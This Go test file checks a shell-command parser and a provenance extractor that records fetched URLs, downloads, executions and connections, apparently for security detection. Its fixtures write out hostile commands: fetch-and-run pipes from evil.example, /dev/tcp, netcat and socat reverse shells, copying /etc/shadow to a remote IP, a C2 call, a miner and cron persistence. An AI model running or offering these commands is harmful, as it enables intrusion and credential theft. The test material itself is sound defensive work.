package provenance

import (
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
)

func TestParseShell(t *testing.T) {
	cases := []struct {
		in   string
		want []Command
	}{
		{`wget -O /tmp/a http://x.example/a`, []Command{{Args: []string{"wget", "-O", "/tmp/a", "http://x.example/a"}}}},
		{`echo 'a b' "c \"d\"" e\ f`, []Command{{Args: []string{"echo", "a b", `c "d"`, "e f"}}}},
		{`curl -s http://h/x | sh`, []Command{{Args: []string{"curl", "-s", "http://h/x"}, Piped: true}, {Args: []string{"sh"}}}},
		{`a && b || c; d & e`, []Command{{Args: []string{"a"}}, {Args: []string{"b"}}, {Args: []string{"c"}}, {Args: []string{"d"}}, {Args: []string{"e"}}}},
		{`cmd >out 2>&1 < in >> log &>/dev/null`, []Command{{Args: []string{"cmd"}, Redirs: []Redirect{
			{FD: 1, Op: ">", Target: "out"}, {FD: 2, Op: ">&", Target: "1"}, {FD: 0, Op: "<", Target: "in"},
			{FD: 1, Op: ">>", Target: "log"}, {FD: -1, Op: "&>", Target: "/dev/null"}}}}},
		{`echo $(id -u) x`, []Command{{Args: []string{"id", "-u"}, Depth: 1}, {Args: []string{"echo", "$(id -u)", "x"}}}},
		{"echo `uname -a`", []Command{{Args: []string{"uname", "-a"}, Depth: 1}, {Args: []string{"echo", "`uname -a`"}}}},
		{`x=1 y=2 cmd # comment`, []Command{{Args: []string{"x=1", "y=2", "cmd"}}}},
		{"cat <<EOF > f\nbody $(rm -rf /)\nEOF\nls", []Command{{Args: []string{"cat"}, Redirs: []Redirect{{FD: 0, Op: "<<", Target: "EOF"}, {FD: 1, Op: ">", Target: "f"}}}, {Args: []string{"ls"}}}},
		{`echo $'a\x41\n'`, []Command{{Args: []string{"echo", "aA\n"}}}},
		{`(cd /tmp; ls)`, []Command{{Args: []string{"cd", "/tmp"}}, {Args: []string{"ls"}}}},
		{`diff <(sort a) b`, []Command{{Args: []string{"sort", "a"}, Depth: 1}, {Args: []string{"diff", "<(sort a)", "b"}}}},
	}
	for _, c := range cases {
		got, err := ParseShell(c.in)
		if err != nil {
			t.Errorf("ParseShell(%q): %v", c.in, err)
			continue
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("ParseShell(%q)\n got %+v\nwant %+v", c.in, got, c.want)
		}
	}
}

func TestParseShellErrors(t *testing.T) {
	for _, in := range []string{`echo 'abc`, `echo "abc`, `echo $(ls`, "echo `ls", `cat >`, `echo ${x`} {
		cmds, err := ParseShell(in)
		if !errors.Is(err, ErrSyntax) {
			t.Errorf("ParseShell(%q) error %v, want ErrSyntax", in, err)
		}
		if len(cmds) == 0 {
			t.Errorf("ParseShell(%q): no partial result", in)
		}
	}
	_, err := ParseShell(strings.Repeat("a ", MaxCommandLine))
	if !errors.Is(err, ErrTooLong) {
		t.Errorf("long line: %v, want ErrTooLong", err)
	}
	deep := strings.Repeat("$(", 20) + "x" + strings.Repeat(")", 20)
	if _, err := ParseShell(deep); !errors.Is(err, ErrSyntax) {
		t.Errorf("deep nesting: %v, want ErrSyntax", err)
	}
}

func has(fs []Finding, e EdgeKind, t NodeType, name string, port int) bool {
	return slices.Contains(fs, Finding{Edge: e, Type: t, Name: name, Port: port})
}

func TestExtract(t *testing.T) {
	var x Extractor
	cases := []struct {
		cmd, cwd string
		want     []Finding
	}{
		{`wget -O /tmp/x.sh http://evil.example/x.sh`, "/", []Finding{
			{EdgeFetched, TypeURL, "http://evil.example/x.sh", 0}, {EdgeDownloaded, TypeFile, "/tmp/x.sh", 0}}},
		{`wget -qO- evil.example/i | sh`, "/", []Finding{
			{EdgeFetched, TypeURL, "http://evil.example/i", 0}, {EdgeExecuted, TypeURL, "http://evil.example/i", 0}}},
		{`wget http://evil.example/dir/a.sh.txt`, "/tmp", []Finding{{EdgeDownloaded, TypeFile, "/tmp/a.sh.txt", 0}}},
		{`curl -fsSLo b.sh https://evil.example:8443/b.sh`, "/tmp", []Finding{
			{EdgeFetched, TypeURL, "https://evil.example:8443/b.sh", 0}, {EdgeDownloaded, TypeFile, "/tmp/b.sh", 0}}},
		{`curl -O http://evil.example/c.bin`, "/tmp", []Finding{{EdgeDownloaded, TypeFile, "/tmp/c.bin", 0}}},
		{`curl http://evil.example/d > d.py && python3 d.py`, "/tmp", []Finding{
			{EdgeDownloaded, TypeFile, "/tmp/d.py", 0}, {EdgeExecuted, TypeFile, "/tmp/d.py", 0}}},
		{`curl -s http://evil.example/i | bash -s`, "", []Finding{{EdgeExecuted, TypeURL, "http://evil.example/i", 0}}},
		{`bash -c 'sh x.sh; ./y.sh; source z.sh'`, "/opt", []Finding{
			{EdgeExecuted, TypeFile, "/opt/x.sh", 0}, {EdgeExecuted, TypeFile, "/opt/y.sh", 0}, {EdgeExecuted, TypeFile, "/opt/z.sh", 0}}},
		{`sh -c "cd /var/tmp && bash -c \"wget http://e.example/q\""`, "/", []Finding{{EdgeDownloaded, TypeFile, "/var/tmp/q", 0}}},
		{`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`, "", []Finding{{EdgeConnected, TypeAddress, "203.0.113.9", 4444}}},
		{`nc -e /bin/sh 203.0.113.9 4444`, "", []Finding{{EdgeConnected, TypeAddress, "203.0.113.9", 4444}}},
		{`ssh -p 2222 root@jump.example.net uptime`, "", []Finding{{EdgeConnected, TypeDomain, "jump.example.net", 2222}}},
		{`scp /etc/shadow u@198.51.100.4:/x`, "", []Finding{{EdgeRead, TypeFile, "/etc/shadow", 0}, {EdgeConnected, TypeAddress, "198.51.100.4", 0}}},
		{`socat TCP:203.0.113.5:9001 EXEC:/bin/bash`, "", []Finding{{EdgeConnected, TypeAddress, "203.0.113.5", 9001}}},
		{`python3 -c "import os;os.system('curl http://c2.example/x')"`, "", []Finding{{EdgeAccessed, TypeURL, "http://c2.example/x", 0}}},
		{`dig +short c2.example`, "", []Finding{{EdgeResolved, TypeDomain, "c2.example", 0}}},
		{`echo x >> /etc/cron.d/job; rm -f /tmp/old.log`, "", []Finding{{EdgeWrote, TypeFile, "/etc/cron.d/job", 0}, {EdgeDeleted, TypeFile, "/tmp/old.log", 0}}},
		{`sudo -u www env A=1 nohup /dev/shm/miner --url=stratum+tcp://pool.example:3333`, "", []Finding{
			{EdgeExecuted, TypeFile, "/dev/shm/miner", 0}, {EdgeAccessed, TypeURL, "stratum+tcp://pool.example:3333", 0}}},
		{`cp a.sh.txt /usr/local/bin/a`, "/tmp", []Finding{{EdgeRead, TypeFile, "/tmp/a.sh.txt", 0}, {EdgeWrote, TypeFile, "/usr/local/bin/a", 0}}},
		{`dd if=/dev/sda of=/tmp/disk.img`, "", []Finding{{EdgeRead, TypeFile, "/dev/sda", 0}, {EdgeWrote, TypeFile, "/tmp/disk.img", 0}}},
		{`su -c "wget -O /root/k http://k.example/k" root`, "", []Finding{{EdgeDownloaded, TypeFile, "/root/k", 0}}},
		{`ls -la /root`, "", []Finding{{EdgeAccessed, TypeFile, "/root", 0}}},
	}
	for _, c := range cases {
		got, err := x.ExtractCommandLine(c.cmd, c.cwd)
		if err != nil {
			t.Errorf("%q: %v", c.cmd, err)
		}
		for _, w := range c.want {
			if !has(got, w.Edge, w.Type, w.Name, w.Port) {
				t.Errorf("%q (cwd %q): missing %v %v %q :%d; got %+v", c.cmd, c.cwd, w.Edge, w.Type, w.Name, w.Port, got)
			}
		}
	}
	// No false resources: words that only look like domains are not.
	got, _ := x.ExtractCommandLine(`mv a.sh.txt a.sh; echo hello world; grep -r foo .`, "")
	for _, f := range got {
		if f.Type != TypeFile {
			t.Errorf("unexpected %+v", f)
		}
	}
	// System programs are not executed files; others are.
	got, _ = x.ExtractArgv("/usr/bin/wget", []string{"wget", "x"}, "")
	if has(got, EdgeExecuted, TypeFile, "/usr/bin/wget", 0) {
		t.Error("system image reported as executed")
	}
	got, _ = x.ExtractArgv("/usr/bin/dash", []string{`sh -c "wget -O /tmp/u http://u.example/u"`}, "")
	if !has(got, EdgeDownloaded, TypeFile, "/tmp/u", 0) {
		t.Errorf("unsplit command line not parsed: %+v", got)
	}
	got, _ = x.ExtractArgv("/tmp/.x/kworker", []string{"[kworker/0:1]"}, "")
	if !has(got, EdgeExecuted, TypeFile, "/tmp/.x/kworker", 0) {
		t.Errorf("image in /tmp not reported: %+v", got)
	}
}

// FuzzTokenize: the parser and the extractor never panic, terminate, and
// return only well-formed findings.
func FuzzTokenize(f *testing.F) {
	for _, s := range []string{
		`wget -O /tmp/a http://x/a`, `sh -c "cd /tmp; ./a.sh"`, "cat <<EOF\nx\nEOF", `echo $'\x41' $((1+2)) ${x:-y}`,
		"a | b |& c && d || e; (f) & `g`", `bash -i >& /dev/tcp/1.2.3.4/5 0>&1`, `curl -fsSLo x https://h:1/x | sh`,
		`diff <(a) >(b)`, `python3 -c "connect(('1.2.3.4',1))"`, `'unterminated`, `"unterminated`, `$(`, "`", `\`, `2>`, `<<`,
		`socat TCP:h:1 EXEC:'sh -c "$(id)"'`, `ssh -J a@b:22 c`, `nc -lvp 4444`, `scp u@h:/a b`,
	} {
		f.Add(s, "/tmp")
	}
	var x Extractor
	f.Fuzz(func(t *testing.T, s, cwd string) {
		cmds, _ := ParseShell(s)
		for _, c := range cmds {
			if c.Depth < 0 || c.Depth > maxNesting {
				t.Fatalf("depth %d", c.Depth)
			}
			if len(c.Args) == 0 && len(c.Redirs) == 0 {
				t.Fatal("empty command")
			}
		}
		fs, _ := x.ExtractCommandLine(s, cwd)
		fs2, _ := x.ExtractArgv("", strings.Fields(s), cwd)
		for _, f := range append(fs, fs2...) {
			if f.Name == "" || f.Edge >= numEdgeKinds || f.Type >= numTypes || f.Port < 0 || f.Port > 65535 {
				t.Fatalf("bad finding %+v", f)
			}
		}
	})
}
